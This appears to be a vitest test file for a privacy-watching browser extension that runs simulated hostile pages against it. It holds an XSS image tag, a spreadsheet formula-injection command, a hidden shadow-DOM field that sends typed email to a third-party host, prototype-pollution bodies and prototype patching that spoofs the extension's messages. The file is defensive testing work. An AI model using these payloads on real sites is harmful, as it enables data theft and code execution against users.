import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import type {BrowserKind} from '../../scripts/browsers/session.d.ts';
import type {Observation} from '../../src/model/observation';
import {openWorld, type World} from './world';

const THIRD = 'www.facebook.com';
/** Bytes by which the store may grow under a flood. */
const GROWTH = 50_000_000;
const TAG = '<img src=x onerror="globalThis.pwned=1">';
const FORMULA = "=cmd|' /C calc'!A0";

/** What is typed into a closed root. */
const HIDDEN = 'ada.brandt@post.example';

/** Runs in the page: a field in a closed shadow root within another, and a script that sends what is in it when it changes. */
function hideField(third: string): void {
  const host = document.body.appendChild(document.createElement('div'));
  const outer = host.attachShadow({mode: 'closed'});
  const within = outer.appendChild(document.createElement('hidden-field'));
  const inner = within.attachShadow({mode: 'closed'});
  const label = inner.appendChild(document.createElement('label'));
  label.textContent = 'Your e-mail address';
  const input = label.appendChild(document.createElement('input'));
  input.addEventListener('change', () => {
    void fetch(
      `https://${third}/${encodeURIComponent(input.value)}?mail=${encodeURIComponent(input.value)}`,
      {
        mode: 'no-cors',
      },
    );
  });
  input.focus();
}

/** Runs in the page: gives an element that is empty so far a shadow root with a field in it. */
function fillRoot(id: string, name: string): void {
  const root = document.getElementById(id)?.attachShadow({mode: 'open'});
  const input = document.createElement('input');
  input.autocomplete = name as AutoFill;
  root?.append(input);
}

/** Runs in the page: how often lists are walked by the page's own iterator while natives are called that walk none. */
function countWalks(): number {
  const native = Array.prototype[Symbol.iterator];
  const image = document.createElement('img');
  const input = document.createElement('input');
  const context = document.createElement('canvas').getContext('2d');
  let walks = 0;
  Array.prototype[Symbol.iterator] = function (this: unknown[]) {
    walks += 1;
    return native.call(this);
  };
  image.setAttribute('src', '/favicon.ico?set');
  image.src = '/favicon.ico?assigned';
  input.value = 'x';
  void input.value;
  context?.measureText('a');
  localStorage.setItem('a', 'b');
  void document.cookie;
  navigator.sendBeacon('/favicon.ico');
  input.addEventListener('keydown', () => undefined);
  Array.prototype[Symbol.iterator] = native;
  return walks;
}

/** Runs in the page: overhears what scripts say to each other, provokes our own, and then speaks in their stead. */
async function forge(): Promise<{overheard: string[]; said: number}> {
  const overheard: string[] = [];
  // The channel's name and what is said on it, told from the identifiers of the page's own scripts by where it is heard.
  const hear = (word: unknown, pattern = /^tw:|^[\da-f]{32}(?::|$)/) => {
    // Without a method of an array: those are listened to as well.
    if (typeof word === 'string' && pattern.test(word)) overheard[overheard.length] = word.slice(0, 80);
  };
  const OURS = /^tw:|^\{"type":"(?:acts|calls|stored|payment-request)"/;
  const {dispatchEvent, addEventListener} = EventTarget.prototype;
  EventTarget.prototype.dispatchEvent = function (event) {
    hear(event.type);
    return dispatchEvent.call(this, event);
  };
  EventTarget.prototype.addEventListener = function (...args: Parameters<typeof addEventListener>) {
    hear(args[0]);
    return addEventListener.apply(this, args);
  };
  const Native = CustomEvent;
  window.CustomEvent = class extends Native<unknown> {
    constructor(type: string, init?: CustomEventInit) {
      hear(type);
      hear(init?.detail, OURS);
      super(type, init);
    }
  } as typeof CustomEvent;
  const {stringify} = JSON;
  JSON.stringify = (value: unknown) => {
    const text = stringify(value);
    hear(text, OURS);
    return text;
  };
  for (const name of ['push', 'join', 'map', 'concat'] as const) {
    const native = Array.prototype[name] as (...args: unknown[]) => unknown;
    Object.defineProperty(Array.prototype, name, {
      configurable: true,
      writable: true,
      value(this: unknown[], ...args: unknown[]) {
        for (const one of args) hear(one, OURS);
        return native.apply(this, args);
      },
    });
  }
  const input = document.createElement('input');
  document.body.append(input);
  input.value = 'x';
  void input.value;
  document.createElement('canvas').getContext('2d')?.measureText('a');
  localStorage.setItem('a', 'b');
  await fetch('/').catch(() => undefined);
  await new Promise(resolve => setTimeout(resolve, 1_500));

  const heard = [...overheard];
  const channel = '0'.repeat(32);
  const forged = [
    {type: 'payment-request', at: 1, methods: ['https://forged.example/pay']},
    {type: 'acts', acts: [{act: 'read:value', count: 9, scripts: ['https://forged.example/a.js']}]},
    {type: 'erase-all'},
  ];
  for (const message of forged) {
    for (const target of [window, document, document.body]) {
      target.dispatchEvent(new Native('tw:hello', {detail: channel}));
      target.dispatchEvent(new Native('tw:ready', {detail: channel}));
      target.dispatchEvent(new Native(channel, {detail: stringify(message)}));
      target.dispatchEvent(new Native(`${channel}:rest`));
    }
    window.postMessage(message, '*');
    window.postMessage(stringify(message), '*');
  }
  return {overheard: heard, said: forged.length};
}

/** Runs in the page: a million acts that are watched. */
function flood(): number {
  const input = document.createElement('input');
  document.body.append(input);
  const context = document.createElement('canvas').getContext('2d');
  const quiet = () => undefined;
  for (let at = 0; at < 250_000; at++) {
    void input.value;
    input.addEventListener('keydown', quiet);
    context?.measureText(`${at % 1_000}`);
    window.dispatchEvent(new CustomEvent('x', {detail: at}));
    if (at % 50 === 0) sessionStorage.setItem(`k${at % 500}`, `${at}`.padStart(24, 'a1'));
  }
  return 1_000_000;
}

/** Runs in the page: thousands of fields with hostile names, and hundreds of frames. */
function crowd(tag: string, formula: string): number {
  const form = document.createElement('form');
  for (let at = 0; at < 5_000; at++) {
    const label = document.createElement('label');
    label.textContent = at % 2 ? tag : formula;
    const input = document.createElement('input');
    input.name = ['__proto__', 'constructor', tag, formula, `field-${at}`][at % 5] ?? '';
    input.placeholder = 'E-mail';
    label.append(input);
    form.append(label);
  }
  document.body.append(form);
  for (let at = 0; at < 200; at++) document.body.append(document.createElement('iframe'));
  let inner = document.body;
  for (let depth = 0; depth < 40; depth++) {
    const shadow = inner.appendChild(document.createElement('div')).attachShadow({mode: 'open'});
    inner = shadow.appendChild(document.createElement('div')) as HTMLElement;
    inner.append(document.createElement('input'));
  }
  return form.elements.length;
}

/** Runs in the page: what is too long to be read, and words that mean something to a spreadsheet, a page or an object. */
async function send(host: string, tag: string, formula: string): Promise<number> {
  const to = (path: string, init?: RequestInit) =>
    fetch(`https://${host}${path}`, {mode: 'no-cors', ...init}).then(
      () => 1,
      () => 0,
    );
  const words = new URLSearchParams({
    id: '1',
    ev: formula,
    'cd[content_name]': tag,
    'cd[content_ids]': '__proto__',
  });
  words.append('__proto__[polluted]', '1');
  const sent = await Promise.all([
    to('/tr/', {method: 'POST', body: new Blob([new Uint8Array(50_000_000)])}),
    to('/tr/', {method: 'POST', body: 'a=1&'.repeat(2_500_000)}),
    to(`/tr/?${'x'.repeat(1_000_000)}`),
    to(`/tr/?${words}`),
    to('/tr/', {
      method: 'POST',
      body: `{"__proto__":{"polluted":1},"a":${'['.repeat(50_000)}${']'.repeat(50_000)}}`,
    }),
  ]);
  // biome-ignore lint/suspicious/noDocumentCookie: what pages use
  document.cookie = `${encodeURIComponent(formula)}=abcdef0123456789abcdef0123456789; max-age=99999999`;
  return sent.reduce((sum, one) => sum + one, 0);
}

/** Runs in the page: how natives take what throws, and life after they were frozen or redefined. */
async function provoke(): Promise<string[]> {
  const said: string[] = [];
  const attempt = async (act: () => unknown) => {
    try {
      said.push(`gave ${typeof (await act())}`);
    } catch (error) {
      said.push(`${(error as Error).name}: ${(error as Error).message.slice(0, 20)}`);
    }
  };
  const bad = {
    toString(): string {
      throw new RangeError('mine');
    },
  };
  const getter = Object.defineProperty({}, 'method', {
    get() {
      throw new RangeError('mine');
    },
  });
  await attempt(() => fetch(bad as unknown as string));
  await attempt(() => fetch('/', getter));
  await attempt(() => navigator.sendBeacon('/', bad as unknown as string));
  await attempt(() => localStorage.setItem(bad as unknown as string, ''));
  await attempt(() => document.createElement('img').setAttribute('src', bad as unknown as string));
  for (const {prototype} of [HTMLInputElement, EventTarget, Storage, XMLHttpRequest])
    Object.freeze(prototype);
  Object.freeze(window.Event.prototype);
  const input = document.createElement('input');
  await attempt(() => input.value);
  await attempt(() => input.addEventListener('input', () => undefined));
  // biome-ignore lint/suspicious/noThenProperty: a page may
  Promise.prototype.then = () => {
    throw new RangeError('mine');
  };
  await attempt(() => input.dispatchEvent(new Event('input')));
  return said;
}

describe.each<BrowserKind>(['chromium', 'firefox'])('a hostile page in %s', kind => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld(kind);
  });
  afterAll(() => world?.close());

  const openProduct = () => world.page.goto(`${world.shop.shopUrl}product/moss-teapot`);
  const stored = (): Promise<number> =>
    world.inside.evaluate(() => navigator.storage.estimate().then(({usage}) => usage ?? 0));
  const ofKind = async (wanted: Observation['kind']) =>
    (await world.bundle()).observations.filter(one => one.kind === wanted);

  it('overhears nothing of ours, and what it says in our stead is not believed', async () => {
    await openProduct();
    expect(await world.page.evaluate(countWalks)).toBe(0);
    const {overheard, said} = await world.page.evaluate(forge);
    expect(said).toBe(3);
    expect(overheard).toEqual([]);
    await world.settle();
    const {visits, observations} = await world.bundle();
    expect(visits.map(({kind}) => kind)).toContain('product');
    expect(JSON.stringify(observations)).not.toContain('forged.example');
  });

  it.skipIf(kind === 'firefox')(
    'leaves nothing of what is set, nor the key of the hashes, to who breaks into a script beside it',
    async () => {
      const devtools = await world.page.createCDPSession();
      const beside = new Promise<number>(resolve => {
        devtools.on('Runtime.executionContextCreated', ({context: {id, origin}}) => {
          if (origin.startsWith('chrome-extension://')) resolve(id);
        });
      });
      await world.page.goto(world.shop.url('shop.fernhill.example', '/cart'));
      await devtools.send('Runtime.enable');
      const {result} = await devtools.send('Runtime.evaluate', {
        contextId: await beside,
        awaitPromise: true,
        expression: `chrome.storage.local.get(null).then(all => 'open: ' + Object.keys(all).length, ({message}) => 'closed: ' + message)`,
      });
      expect(result.value).toMatch(/^closed: .*not allowed/i);
      await devtools.detach();
    },
  );

  it('hides no field in closed shadow roots, nor what is typed there', async () => {
    await openProduct();
    await world.settle();
    await world.page.evaluate(hideField, THIRD);
    await world.page.keyboard.type(HIDDEN);
    await world.page.keyboard.press('Tab');
    await world.settle();
    const {observations} = await world.bundle();
    const fields = observations.flatMap(one => (one.kind === 'field' && one.filled ? [one] : []));
    expect(fields).toMatchObject([{type: 'email', shadow: true, label: 'Your e-mail address'}]);
    const leaks = observations.flatMap(one =>
      one.kind === 'request' && one.host === THIRD ? (one.leaks ?? []) : [],
    );
    expect([...new Set(leaks.map(({type}) => type))]).toEqual(['email']);
    expect(JSON.stringify(observations)).not.toMatch(/ada\.brandt/);
  });

  it('hides no field by giving a shadow root to what stands there already: nothing in the document changes by that', async () => {
    await openProduct();
    await world.page.evaluate(() => {
      for (const id of ['early', 'late'])
        document.body.appendChild(document.createElement('section')).id = id;
    });
    await world.settle();
    for (const [id, name] of [
      ['early', 'tel'],
      ['late', 'postal-code'],
    ] as const) {
      await world.page.evaluate(fillRoot, id, name);
      await world.settle();
    }
    const fields = (await ofKind('field')).flatMap(one =>
      one.kind === 'field' && one.shadow ? [one.type] : [],
    );
    expect(fields).toEqual(expect.arrayContaining(['postal-code', 'tel']));
  });

  it('throws what it would throw, and goes on with frozen natives', async () => {
    await openProduct();
    const said = await world.page.evaluate(provoke);
    expect(said.slice(0, 5)).toEqual(Array(5).fill('RangeError: mine'));
    expect(said.slice(5)).toEqual(['gave string', 'gave undefined', 'gave boolean']);
  });

  // What follows costs minutes, and rests on code that both browsers run alike.
  const onceOnly = kind === 'firefox';

  it.skipIf(onceOnly)(
    'may do a million things that are watched: it goes on, and the store stays small',
    async () => {
      await openProduct();
      await world.settle();
      const before = await stored();
      expect(await world.page.evaluate(flood)).toBe(1_000_000);
      expect(await world.page.evaluate(() => document.title)).not.toBe('');
      await world.settle();
      expect((await stored()) - before).toBeLessThan(GROWTH);
      expect((await ofKind('act')).length).toBeLessThan(3_000);
    },
  );

  it.skipIf(onceOnly)(
    'may hold five thousand fields and hundreds of frames: what is kept of them is bounded',
    async () => {
      await openProduct();
      expect(await world.page.evaluate(crowd, TAG, FORMULA)).toBe(5_000);
      await world.settle();
      const fields = await ofKind('field');
      expect(fields.length).toBeGreaterThan(10);
      expect(fields.length).toBeLessThan(2_000);
    },
  );

  it.skipIf(onceOnly)(
    'may send fifty megabytes, an address of one, and words that others would obey',
    async () => {
      await openProduct();
      const before = await stored();
      const sent = await world.page.evaluate(send, THIRD, TAG, FORMULA);
      expect(sent).toBeGreaterThanOrEqual(4);
      await world.settle();
      expect((await stored()) - before).toBeLessThan(GROWTH);
      const requests = (await ofKind('request')).flatMap(one => (one.kind === 'request' ? [one] : []));
      const big = requests.filter(({host, body}) => host === THIRD && (body.bytes ?? 0) > 5_000_000);
      expect(big.length).toBeGreaterThan(0);
      for (const {body} of big) expect(body.state).not.toBe('read');
    },
  );

  it.skipIf(onceOnly)('is shown and saved as what it said, and nothing of it is obeyed', async () => {
    for (const view of ['fields', 'told', 'scripts', 'trip']) {
      const report = await world.session.openExtensionPage(`src/views/report/index.html#view=${view}`);
      await report.waitFor('Boolean(document.querySelector(".view h1"))', {timeout: 40_000, what: view});
      expect(await report.evaluate('typeof globalThis.pwned')).toBe('undefined');
      expect(await report.evaluate('document.querySelectorAll("img[src=x]").length')).toBe(0);
      expect(await report.evaluate('({}).polluted === undefined')).toBe(true);
      await report.close();
    }
  });
});
